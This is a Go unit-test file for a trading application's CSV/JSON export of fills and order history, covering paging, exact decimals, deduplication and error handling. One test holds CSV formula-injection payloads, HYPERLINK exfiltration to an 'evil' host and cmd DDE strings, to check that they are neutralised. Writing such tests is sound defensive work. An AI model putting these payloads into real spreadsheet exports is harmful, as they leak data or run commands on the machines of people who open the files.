package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"
	"github.com/tradedesk/tradedesk/api"
)

// fills makes n fills, newest first, with exact decimals a float would not keep.
func fills(n int) []api.Fill {
	t0 := time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)
	out := make([]api.Fill, n)
	for i := range out {
		out[i] = api.Fill{
			InstrumentID: 1, Instrument: "BTC-PERP", OrderID: api.OrderID(1000 + i), Cloid: fmt.Sprintf("c-%d", i),
			TradeID: api.TradeID(5000 + i), Side: []string{"b", "s"}[i%2], Direction: api.DirOpenLong,
			Price:     decimal.RequireFromString(fmt.Sprintf("64250.%d1", i%10)),
			Size:      decimal.RequireFromString("0.00012345678901234567"),
			ClosedPnl: decimal.RequireFromString("-1.10"), Fee: decimal.RequireFromString(fmt.Sprintf("-0.00%d", i%3)),
			NotionalValue: decimal.RequireFromString("7.93"), Crossed: i%3 == 0, TxHash: "0xabc",
			BlockTime: api.Time{Time: t0.Add(-time.Duration(i) * time.Second)},
		}
	}
	return out
}

// pager serves rows in pages of limit, like the exchange's paged envelope.
func pager[T any](rows []T, fail int) func(context.Context, api.PageParams) (api.Page[T], error) {
	return func(_ context.Context, p api.PageParams) (api.Page[T], error) {
		if p.Page == fail {
			return api.Page[T]{}, errors.New("HTTP 502")
		}
		total := (len(rows) + p.Limit - 1) / p.Limit
		lo := min((p.Page-1)*p.Limit, len(rows))
		hi := min(lo+p.Limit, len(rows))
		return api.Page[T]{Data: rows[lo:hi], Page: p.Page, Limit: p.Limit, TotalCount: len(rows),
			TotalPages: total, HasNext: p.Page < total, HasPrev: p.Page > 1}, nil
	}
}

func TestCSVExportOfSeveralPages(t *testing.T) {
	want := fills(250)
	var calls []int
	var buf bytes.Buffer
	n, err := Pages(context.Background(), pager(want, 0), FillKey, FillColumns(), CSV, &buf,
		func(done, total int) { calls = append(calls, done, total) })
	if err != nil || n != 250 {
		t.Fatalf("n=%d err=%v", n, err)
	}
	if fmt.Sprint(calls) != "[100 250 200 250 250 250]" {
		t.Errorf("progress calls %v", calls)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 251 || strings.Join(recs[0], ",") != "time,instrument,instrument_id,side,direction,price,size,notional,fee,broker_fee,closed_pnl,liquidity,order_id,cloid,trade_id,tx_hash" {
		t.Fatalf("%d rows, header %v", len(recs), recs[0])
	}
	for i, r := range recs[1:] {
		f := want[i]
		if r[0] != f.BlockTime.UTC().Format("2006-01-02T15:04:05.000Z07:00") || r[5] != f.Price.String() ||
			r[6] != "0.00012345678901234567" || r[8] != f.Fee.String() || r[10] != "-1.1" ||
			r[11] != Liquidity(f.Crossed) || r[12] != fmt.Sprint(f.OrderID) || r[13] != f.Cloid || r[14] != fmt.Sprint(f.TradeID) {
			t.Fatalf("row %d = %v does not match fill %+v", i, r, f)
		}
	}
}

func TestJSONExportOfSeveralPages(t *testing.T) {
	want := fills(230)
	var buf bytes.Buffer
	if _, err := Pages(context.Background(), pager(want, 0), FillKey, FillColumns(), JSON, &buf, nil); err != nil {
		t.Fatal(err)
	}
	var got []api.Fill
	if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
		t.Fatalf("%v\n%s", err, buf.String()[:200])
	}
	if len(got) != len(want) {
		t.Fatalf("got %d records, want %d", len(got), len(want))
	}
	for i := range want {
		g, w := got[i], want[i]
		if g.TradeID != w.TradeID || !g.Price.Equal(w.Price) || g.Size.String() != w.Size.String() ||
			!g.Fee.Equal(w.Fee) || !g.BlockTime.Equal(w.BlockTime.Time) || g.Cloid != w.Cloid || g.Crossed != w.Crossed {
			t.Fatalf("record %d: got %+v want %+v", i, g, w)
		}
	}
	if !strings.Contains(buf.String(), `"size":"0.00012345678901234567"`) {
		t.Error("JSON does not carry the exact decimal string")
	}
}

func TestHistoryExportDropsShiftedDuplicates(t *testing.T) {
	base := make([]api.OrderRecord, 150)
	for i := range base {
		base[i] = api.OrderRecord{OrderID: api.OrderID(900 - i), Instrument: "ETH-PERP", Side: "b", State: api.StateFilled,
			LimitPrice: decimal.RequireFromString("3100.5"), Size: decimal.RequireFromString("1"), Tpsl: "sl",
			TriggerPx: api.OptDecimal{Decimal: decimal.RequireFromString("3000"), Valid: true}}
	}
	// While page 1 is read, a new order arrives: page 2 then starts with page 1's last row again.
	shifted := append([]api.OrderRecord{{OrderID: 901}}, base...)
	fetch := func(ctx context.Context, p api.PageParams) (api.Page[api.OrderRecord], error) {
		if p.Page == 1 {
			return pager(base, 0)(ctx, p)
		}
		return pager(shifted, 0)(ctx, p)
	}
	var buf bytes.Buffer
	n, err := Pages(context.Background(), fetch, OrderKey, OrderColumns(), CSV, &buf, nil)
	if err != nil || n != 150 {
		t.Fatalf("n=%d err=%v, want the 150 distinct orders", n, err)
	}
	recs, _ := csv.NewReader(&buf).ReadAll()
	if recs[1][5] != "sl limit" || recs[1][10] != "3000" || recs[1][9] != "3100.5" {
		t.Errorf("first row %v", recs[1])
	}
}

func TestExportFailureWritesNothing(t *testing.T) {
	var buf bytes.Buffer
	_, err := Pages(context.Background(), pager(fills(250), 2), FillKey, FillColumns(), CSV, &buf, nil)
	if err == nil || !strings.Contains(err.Error(), "export stopped: HTTP 502") || buf.Len() != 0 {
		t.Fatalf("err=%v, wrote %d bytes", err, buf.Len())
	}
}

func TestEmptyExport(t *testing.T) {
	var buf bytes.Buffer
	if _, err := Pages(context.Background(), pager([]api.Fill{}, 0), FillKey, FillColumns(), JSON, &buf, nil); err != nil {
		t.Fatal(err)
	}
	var got []api.Fill
	if err := json.Unmarshal(buf.Bytes(), &got); err != nil || len(got) != 0 {
		t.Fatalf("empty export %q: %v", buf.String(), err)
	}
}

func TestParse(t *testing.T) {
	if f, err := ParseFormat(" JSON"); err != nil || f != JSON {
		t.Error("json")
	}
	if _, err := ParseFormat("xml"); err == nil || err.Error() != `unknown export format "xml": use csv or json` {
		t.Errorf("xml: %v", err)
	}
	if w, err := ParseWhat("order_history"); err != nil || w != History {
		t.Error("history")
	}
	if _, err := ParseWhat("trades"); err == nil {
		t.Error("trades accepted")
	}
	at := time.Date(2026, 3, 2, 9, 15, 0, 0, time.UTC)
	if got := FileName(History, JSON, at); got != "tradedesk-history-20260302-091500.json" {
		t.Error(got)
	}
}

// TestCSVFormulaCellsAreText: cells a spreadsheet would run (=, +, - not a number, @, tab, CR
// at the start) are written with a ' before them; numbers, negative ones included, are not.
// Guards SafeCell's prefix list and its number exception (a dropped exception would turn every
// negative fee and PnL into text; a dropped prefix would let the formula run).
func TestCSVFormulaCellsAreText(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://x/?"&A1,"x")`: `'=HYPERLINK("http://x/?"&A1,"x")`,
		"+cmd|' /C calc'!A0":              "'+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0":          "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0":     "'@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1":                          "'\t=1+1",
		"\r=1+1":                          "'\r=1+1",
		"-":                               "'-",
		"-12.5":                           "-12.5",
		"+3":                              "+3",
		"64250.01":                        "64250.01",
		"BTC-PERP":                        "BTC-PERP",
		"":                                "",
	} {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
	fs := fills(2)
	fs[0].Cloid = `=HYPERLINK("http://evil/?"&A1,"x")`
	var b bytes.Buffer
	if err := WriteCSV(&b, FillColumns(), fs); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range recs[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) && !plainNumber.MatchString(cell) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}
	if !strings.Contains(strings.Join(recs[1], ","), `'=HYPERLINK`) || !strings.Contains(strings.Join(recs[1], ","), ",-1.1,") {
		t.Errorf("row %v: want the cloid as text and the negative PnL as a number", recs[1])
	}
}

// TestCSVSideIsAWord (#24 case 7): the side column says buy or sell, not the wire's b and s.
func TestCSVSideIsAWord(t *testing.T) {
	for _, c := range FillColumns() {
		if c.Name == "side" {
			if got := c.Value(&api.Fill{Side: api.SideBuy}); got != "buy" {
				t.Errorf("fill side %q, want buy", got)
			}
		}
	}
	for _, c := range OrderColumns() {
		if c.Name == "side" {
			if got := c.Value(&api.OrderRecord{Side: api.SideSell}); got != "sell" {
				t.Errorf("order side %q, want sell", got)
			}
		}
	}
}
